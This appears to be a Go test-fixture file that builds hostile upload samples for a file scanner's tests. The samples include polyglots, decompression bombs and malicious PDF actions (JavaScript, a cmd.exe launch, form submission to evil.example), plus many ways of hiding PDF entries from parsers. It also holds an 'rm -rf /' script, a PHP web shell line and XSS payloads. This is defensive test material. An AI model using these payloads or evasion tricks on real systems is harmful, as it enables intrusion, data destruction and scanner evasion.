package scantest

import (
	"bytes"
	"strings"

	"mydata.nat.gov.tw/portal/pkg/upload"
)

// Hostile are files that could do harm, or that nobody can look into.
func Hostile() []File {
	var list []File
	list = append(list, hostilePDFs()...)
	list = append(list, hostileArchives()...)
	list = append(list, hostileWords()...)
	list = append(list, hostileSheets()...)
	list = append(list, hostileODF()...)
	list = append(list, hostilePictures()...)
	list = append(list, strangers()...)
	list = append(list, rarities()...)
	return list
}

// strangers are files of other kinds, under whatever name they come.
func strangers() []File {
	samples := map[string]struct {
		content string
		reason  upload.Reason
	}{
		"nothing":                        {"", upload.Empty},
		"plain text":                     {"服務說明", upload.Unknown},
		"a page of HTML":                 {"<!doctype html><script>alert(1)</script>", upload.Unknown},
		"SVG":                            {`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, upload.Unknown},
		"SVG without script":             {`<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`, upload.Unknown},
		"a program of Windows":           {"MZ\x90\x00" + strings.Repeat("\x00", 500), upload.Unknown},
		"a program of Linux":             {"\x7fELF\x02\x01\x01", upload.Unknown},
		"a shell script":                 {"#!/bin/sh\nrm -rf /\n", upload.Unknown},
		"an old Word file":               {"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 600), upload.Encrypted},
		"rich text":                      {`{\rtf1\ansi{\object\objautlink}}`, upload.Unknown},
		"GIF":                            {"GIF89a\x01\x00\x01\x00", upload.Unknown},
		"a RAR archive":                  {"Rar!\x1a\x07\x01\x00", upload.Unknown},
		"a 7z archive":                   {"7z\xbc\xaf\x27\x1c", upload.Unknown},
		"gzip":                           {"\x1f\x8b\x08\x00", upload.Unknown},
		"an empty archive":               {"PK\x05\x06" + strings.Repeat("\x00", 18), upload.Unknown},
		"flat ODF":                       {`<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>`, upload.Unknown},
		"XML of Office 2003":             {`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>`, upload.Unknown},
		"mail with a file":               {"MIME-Version: 1.0\r\nContent-Type: multipart/mixed", upload.Unknown},
		"a shortcut":                     {"L\x00\x00\x00\x01\x14\x02\x00", upload.Unknown},
		"blanks before a PDF":            {"   " + string(page()), upload.Polyglot},
		"a page of HTML before a PDF":    {"<html><!--" + string(page()), upload.Polyglot},
		"a program before a PDF":         {"MZ" + strings.Repeat("\x00", 400) + string(page()), upload.Polyglot},
		"a program before an archive":    {"MZ" + string(Zip(word().parts...)), upload.Unknown},
		"a byte order mark before a PDF": {"\xef\xbb\xbf" + string(page()), upload.Polyglot},
	}
	var list []File
	for _, name := range sorted(samples) {
		list = append(list, File{Name: name, Content: []byte(samples[name].content), Reason: samples[name].reason})
	}
	return append(list, File{Name: "more than 20 MiB", Content: bytes.Repeat([]byte("%PDF-1.7\n"), upload.MaxSize/9+1), Reason: upload.TooLarge})
}

// acts are what a PDF must not do, each as an entry of a dictionary.
var acts = map[string]struct {
	entry  string
	reason upload.Reason
}{
	"JavaScript":           {"/A << /S /JavaScript /JS (app.alert(1)) >>", upload.Scripts},
	"a name tree of JS":    {"/Names << /JavaScript 9 0 R >>", upload.Scripts},
	"script in a stream":   {"/AA << /O << /S /Named /JS 9 0 R >> >>", upload.Scripts},
	"a program to start":   {"/A << /S /Launch /Win << /F (cmd.exe) >> >>", upload.Scripts},
	"answers sent off":     {"/A << /S /SubmitForm /F (https://evil.example) >>", upload.Scripts},
	"data brought in":      {"/A << /S /ImportData /F (c:\\a) >>", upload.Scripts},
	"an XFA form":          {"/AcroForm << /XFA 9 0 R >>", upload.Scripts},
	"a film":               {"/A << /S /Rendition /R 9 0 R >>", upload.Scripts},
	"rich media":           {"/Subtype /RichMedia", upload.Scripts},
	"a model in 3D":        {"/Subtype /3D /3DD 9 0 R", upload.Scripts},
	"another file's page":  {"/A << /S /GoToR /F (\\\\\\\\evil\\\\share) >>", upload.External},
	"an embedded page":     {"/A << /S /GoToE >>", upload.Embedded},
	"a file attached":      {"/Type /Filespec /EF << /F 9 0 R >>", upload.Embedded},
	"a tree of files":      {"/Names << /EmbeddedFiles 9 0 R >>", upload.Embedded},
	"a note with a file":   {"/Subtype /FileAttachment /FS 9 0 R", upload.Embedded},
	"a page to open first": {"/OpenAction << /S /URI /URI (https://evil.example) >>", upload.Scripts},
}

// hidings are ways to put a dictionary's entry into a PDF so that some readers
// find it and others don't.
var hidings = map[string]func(entry string) []byte{
	"openly": func(e string) []byte { return page(Object("<< " + e + " >>")) },
	"in the catalogue": func(e string) []byte {
		return PDF(Object("<< /Type /Catalog /Pages 2 0 R "+e+" >>"), pages, leaf, packed("", nil))
	},
	"with names spelled in code": func(e string) []byte { return page(Object("<< " + spelled(e) + " >>")) },
	"in an object stream":        func(e string) []byte { return page(objectStream("/Type /ObjStm", 20, "<< >>", "<< "+e+" >>")) },
	"in an object stream that is called a picture": func(e string) []byte {
		return page(objectStream("/Type /XObject /Subtype /Image", 20, "<< "+e+" >>"))
	},
	"in an update": func(e string) []byte { return update(page(), "7 0 obj\n<< "+e+" >>\nendobj") },
	"in a remark":  func(e string) []byte { return update(page(), "% 7 0 obj << "+e+" >> endobj") },
	"in a string": func(e string) []byte {
		return page("<< /Contents (7 0 obj << " + Object(strings.NewReplacer("(", "", ")", "").Replace(e)) + " >> endobj) >>")
	},
	"in a stream":    func(e string) []byte { return page(stream("", []byte("7 0 obj << "+e+" >> endobj"))) },
	"behind remarks": func(e string) []byte { return update(page(), "7 % one\n0 %2\nobj\n<< "+e+" >>\nendobj") },
	"behind a very long remark": func(e string) []byte {
		return update(page(), "7 0 %"+strings.Repeat("x", 9000)+"\nobj\n<< "+e+" >>\nendobj")
	},
	"behind a false end": func(e string) []byte { return page(Object("<< /A 1 endobj " + e + " >>")) },
	"without blanks":     func(e string) []byte { return update(page(), "7 0obj<<"+e+">>endobj") },
	"with lines of NUL":  func(e string) []byte { return update(page(), "7\x000\x00obj<<\x00"+e+"\x00>>endobj") },
	"in the trailer": func(e string) []byte {
		return bytes.Replace(page(), []byte("/Root 1 0 R"), []byte("/Root 1 0 R "+e), 1)
	},
}

// spelled writes the letters of names as their codes.
func spelled(entry string) string {
	var out strings.Builder
	for i := 0; i < len(entry); i++ {
		out.WriteByte(entry[i])
		if entry[i] == '/' && i+1 < len(entry) && entry[i+1] != ' ' {
			const digits = "0123456789abcdef"
			i++
			out.WriteString("#" + string(digits[entry[i]>>4]) + string(digits[entry[i]&15]))
		}
	}
	return out.String()
}

func hostilePDFs() []File {
	var list []File
	add := func(name string, content []byte, reason upload.Reason) {
		list = append(list, File{Name: "PDF: " + name, Content: content, Reason: reason})
	}
	for _, act := range sorted(acts) {
		for _, way := range sorted(hidings) {
			if entry := acts[act].entry; way != "in a string" || !strings.Contains(entry, "\\") {
				add(act+" "+way, hidings[way](entry), acts[act].reason)
			}
		}
	}
	plain := page()
	add("opens by an action that stands elsewhere", PDF("<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", pages, leaf, packed("", nil), "<< /S /URI /URI (https://evil.example) >>"), upload.Scripts)
	add("opens by an action in an object stream", PDF("<< /Type /Catalog /Pages 2 0 R /OpenAction 20 0 R >>", pages, leaf, packed("", nil),
		objectStream("/Type /ObjStm", 20, "<< /S /Named /N /Print >>")), upload.Scripts)
	add("a password", bytes.Replace(plain, []byte("/Root"), []byte("/Encrypt 9 0 R /Root"), 1), upload.Encrypted)
	add("a password in a table as a stream", page(packed("/Type /XRef /W [1 2 1] /Size 6 /Encrypt 9 0 R", make([]byte, 24))), upload.Encrypted)
	add("an object stream nobody can read", page(stream("/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", []byte("xx"))), upload.Malformed)
	add("an object stream packed twice", page(stream("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", []byte("xx"))), upload.Bomb)
	add("an object stream with its place elsewhere", page(packed("/Type /ObjStm /N 1 /First 9 0 R", []byte("20 0 << >>"))), upload.Malformed)
	add("an object stream cut off", page(stream("/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", zlibbed([]byte("20 0 << >>"))[:9])), upload.Malformed)
	add("a stream from another file", page(stream("/F (c:\\\\a) /FFilter /FlateDecode", nil)), upload.External)
	add("a stream that grows without end", page(packed("", make([]byte, 300<<20))), upload.Bomb)
	add("an object stream that grows without end", page(packed("/Type /ObjStm /N 1 /First 5", append([]byte("20 0 "), bytes.Repeat([]byte(" "), 70<<20)...))), upload.Bomb)
	add("a picture beyond all measure", page(packed("/Subtype /Image /Width 100000 /Height 100000", nil)), upload.Bomb)
	add("a string without an end", page("<< /A (( >>"), upload.Malformed)
	add("a program behind it", append(bytes.Clone(plain), "MZ\x90\x00"...), upload.Polyglot)
	add("an archive behind it", append(bytes.Clone(plain), Zip(word().parts...)...), upload.Polyglot)
	add("an archive within it", page(stream("", Zip(word().parts...))), upload.Polyglot)
	add("a page of HTML behind it", append(bytes.Clone(plain), "<script>alert(1)</script>"...), upload.Polyglot)
	add("cut off", plain[:len(plain)-40], upload.Polyglot)
	add("of no version", bytes.Replace(plain, []byte("%PDF-1.7"), []byte("%PDF-x.y"), 1), upload.Malformed)
	add("without an object", []byte("%PDF-1.4\nstartxref\n0\n%%EOF\n"), upload.Malformed)
	return list
}

func hostilePictures() []File {
	var list []File
	add := func(name string, content []byte, reason upload.Reason) {
		list = append(list, File{Name: name, Content: content, Reason: reason})
	}
	picture, photo, archive := PNG(), JPEG(), Zip(word().parts...)
	for name, base := range map[string][]byte{"PNG": picture, "JPEG": photo} {
		add(name+": an archive behind it", append(bytes.Clone(base), archive...), upload.Polyglot)
		add(name+": a program behind it", append(bytes.Clone(base), "MZ\x90\x00 and more of it"...), upload.Polyglot)
		add(name+": a script behind it", append(bytes.Clone(base), "<script>alert(1)</script>"...), upload.Polyglot)
		add(name+": a second picture behind it", append(bytes.Clone(base), base...), upload.Polyglot)
		add(name+": cut off", base[:len(base)/2], upload.Malformed)
		add(name+": nothing but its beginning", base[:12], upload.Malformed)
	}
	for name, text := range map[string]string{"a script": "<script>alert(1)</script>", "PHP": "<?php system($_GET[0]);", "HTML": "<html><body>", "SVG": "<SVG onload=alert(1)>"} {
		add("PNG: "+name+" in a remark", chunks(picture, chunk("tEXt", []byte("Comment\x00"+text))), upload.Polyglot)
		add("PNG: "+name+" in a packed remark", chunks(picture, chunk("zTXt", append([]byte("Comment\x00\x00"), zlibbed([]byte(text))...))), upload.Polyglot)
		add("JPEG: "+name+" in a remark", segments(photo, segment(0xfe, []byte(text))), upload.Polyglot)
		add("JPEG: "+name+" in its metadata", segments(photo, segment(0xe1, []byte("Exif\x00\x00"+text))), upload.Polyglot)
	}
	add("PNG: a PDF in a remark", chunks(picture, chunk("tEXt", append([]byte("Comment\x00"), page()...))), upload.Polyglot)
	add("JPEG: a PDF in a remark", segments(photo, segment(0xfe, page())), upload.Polyglot)
	add("PNG: an archive in a private chunk", chunks(picture, chunk("prVt", archive)), upload.Polyglot)
	add("JPEG: an archive in a remark", segments(photo, segment(0xfe, archive)), upload.Polyglot)
	add("PNG: wide beyond all measure", sized(60_000, 1, 100), upload.Bomb)
	add("PNG: large beyond all measure", sized(20_000, 20_000, 100), upload.Bomb)
	add("PNG: grows beyond its size", sized(10, 10, 10<<20), upload.Bomb)
	add("PNG: a remark that grows without end", chunks(picture, chunk("zTXt", append([]byte("Comment\x00\x00"), zlibbed(make([]byte, 4<<20))...))), upload.Bomb)
	add("PNG: a profile that grows without end", chunks(picture, chunk("iCCP", append([]byte("ICC\x00\x00"), zlibbed(make([]byte, 4<<20))...))), upload.Bomb)
	add("PNG: a wrong checksum", bytes.Replace(picture, []byte("IHDR\x00"), []byte("IHDR\x01"), 1), upload.Malformed)
	add("PNG: a critical chunk nobody knows", chunks(picture, chunk("EVIL", nil)), upload.Malformed)
	add("PNG: no size", sized(0, 0, 10), upload.Malformed)
	add("JPEG: large beyond all measure", frameSize(photo, 65_000, 65_000), upload.Bomb)
	add("JPEG: no size", frameSize(photo, 0, 0), upload.Malformed)
	add("JPEG: passes without end", manyScans(photo), upload.Bomb)
	add("JPEG: two frames", bytes.Replace(photo, []byte{0xff, 0xc0}, append(segment(0xc0, []byte{8, 0, 9, 0, 9, 1}), 0xff, 0xc0), 1), upload.Malformed)
	return list
}

// frameSize writes another size into a JPEG.
func frameSize(photo []byte, width, height uint16) []byte {
	out := bytes.Clone(photo)
	at := bytes.Index(out, []byte{0xff, 0xc0}) + 5
	copy(out[at:], []byte{byte(height >> 8), byte(height), byte(width >> 8), byte(width)})
	return out
}

// manyScans repeats a JPEG's only scan.
func manyScans(photo []byte) []byte {
	at := bytes.Index(photo, []byte{0xff, 0xda})
	scan := photo[at : len(photo)-2]
	return bytes.Join([][]byte{photo[:at], bytes.Repeat(scan, 101), photo[len(photo)-2:]}, nil)
}
